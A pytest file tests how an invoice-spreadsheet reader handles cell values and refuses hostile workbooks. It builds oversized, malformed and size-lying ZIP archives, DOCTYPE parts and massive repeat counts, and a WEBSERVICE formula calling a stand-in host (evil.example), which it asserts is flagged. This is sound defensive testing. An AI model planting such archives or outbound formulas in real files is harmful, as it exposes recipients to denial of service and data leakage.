"""Workbooks: what a cell means, and archives that are packed to do harm."""

import time
import zipfile
from collections.abc import Mapping
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest

from usance.domain.invoice import Invoice
from usance.plugins import Unreadable
from usance.plugins.einvoices import read_any, xlsx_schedule

HERE = Path(__file__).parent / "xlsx_schedule"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEAD = "".join(f'<c t="str"><v>{name}</v></c>' for name in ("number", "gross", "due date"))
CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body>'
    "<office:spreadsheet><table:table table:name='S'>{}</table:table></office:spreadsheet>"
    "</office:body></office:document-content>"
)


def workbook(rows: str, more: Mapping[str, str] | None = None) -> bytes:
    sheet = f"<worksheet {MAIN}><sheetData><row>{HEAD}</row>{rows}</sheetData></worksheet>"
    with zipfile.ZipFile(HERE / "swedish.xlsx") as sample:
        parts: dict[str, bytes | str] = {name: sample.read(name) for name in sample.namelist()}
    parts |= {"xl/worksheets/sheet1.xml": sheet, **(more or {})}
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def table(rows: str) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet"
        )
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        archive.writestr("content.xml", CONTENT.format(rows))
    return out.getvalue()


def row(gross: str) -> tuple[Invoice, list[str]]:
    data = workbook(f'<row><c t="str"><v>1</v></c><c><v>{gross}</v></c></row>')
    ((invoice, findings),) = xlsx_schedule.read(data)
    return invoice, [each.code for each in findings if each.code != "sheet_not_read"]


@pytest.mark.parametrize(
    ("stored", "amount"),
    [
        ("1250.1", "1250.1"),
        ("1250.0999999999999", "1250.1"),  # As a spreadsheet stores 1250.10.
        ("1.234", "1.234"),  # A number is never thousands.
        ("12", "12"),
        ("1.5E3", "1500"),
    ],
)
def test_numbers_are_those_that_the_spreadsheet_shows(stored: str, amount: str) -> None:
    invoice, codes = row(stored)

    assert (invoice.totals.payable, codes) == (Decimal(amount), [])


def test_a_third_of_an_amount_is_no_amount() -> None:
    assert row("33.333333333333336")[1] == ["number_unreadable"]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (workbook('<row><c r="A2"><f>1+1</f></c></row>'), "never been computed"),
        (workbook('<row><c r="B2" t="e"><v>#REF!</v></c></row>'), "B2: a cell shows an error"),
        (workbook('<row r="1048576"><c><v>1</v></c></row>'), "more than 50,000 rows"),
        (workbook('<row><c r="XFD2"><v>1</v></c></row>'), "more than 512 columns"),
        (workbook('<row><c r="A1048576"><v>1</v></c></row>'), "more than 50,000 rows"),
        (workbook('<row><c t="inlineStr"><is><t>A_x0000_1</t></is></c></row>'),
         "row 2: a cell has a NUL"),
        (workbook("<row>"), "the XML is broken"),
        (workbook("", {"xl/styles.xml": "<!DOCTYPE a><a/>"}), "a DOCTYPE"),
        (workbook("", {"xl/styles.xml": " " * 2_000_000}), "more than 100 times its size"),
        (workbook("", {f"x{n}": "" for n in range(5_000)}), "a ZIP archive"),
        (workbook("")[:-40], "a ZIP archive"),
        (table("<table:table-row table:number-rows-repeated='999999999'><table:table-cell "
               "office:value-type='float' office:value='1'/></table:table-row>"),
         "more than 50,000 rows"),
        (table("<table:table-row><table:table-cell table:number-columns-repeated='99999999' "
               "office:value-type='float' office:value='1'/></table:table-row>"),
         "more than 512 columns"),
        (workbook('<row><c r="A2"><v>1</v></c></row><row><c r="SR50000"><v>1</v></c></row>'),
         "more than 5,000,000 cells"),
        (table("<table:table-row/>"), "no invoice number and amount"),
    ],
    ids=range(15),
)  # fmt: skip
def test_workbooks_that_cannot_be_trusted_are_refused(data: bytes, says: str) -> None:
    start = time.process_time()

    with pytest.raises(Unreadable) as refused:
        read_any(data)

    assert says in str(refused.value)
    assert time.process_time() - start < 5


def test_a_part_that_is_longer_than_it_says_is_refused() -> None:
    """The directory's lie would be believed here and unpacked in full by another reader."""
    data = bytearray(workbook("", {"xl/styles.xml": "<a>" + " " * 60_000 + "</a>"}))
    size = (60_007).to_bytes(4, "little")
    assert data.count(size) == 2
    lied = bytes(data).replace(size, (7).to_bytes(4, "little"))

    with pytest.raises(Unreadable):
        read_any(lied)


@pytest.mark.parametrize("name", ["swedish.xlsx", "german.ods"])
def test_damage_ends_as_findings_or_unreadable(name: str) -> None:
    data = (HERE / name).read_bytes()
    for at in range(0, len(data), 61):
        for broken in (data[:at], data[:at] + b"\xff" + data[at + 1 :]):
            try:
                read_any(broken)
            except Unreadable:
                continue


def test_a_formula_that_reaches_outside_is_warned_of_wherever_the_file_is_read() -> None:
    evil = "<f>WEBSERVICE(&quot;http://evil.example&quot;)</f>"
    data = workbook(f'<row><c r="A2" t="str">{evil}<v>=R-1</v></c><c><v>5</v></c></row>')
    _, ((_, findings),) = read_any(data)
    told = [(one.code, one.where, one.blocks) for one in findings if "formula" in one.code]
    assert sorted(told) == [
        ("formula_cell", "sheet 'Mars', row 2, column 1 (number)", False),
        ("formula_dangerous", "cell A2", False),
    ]
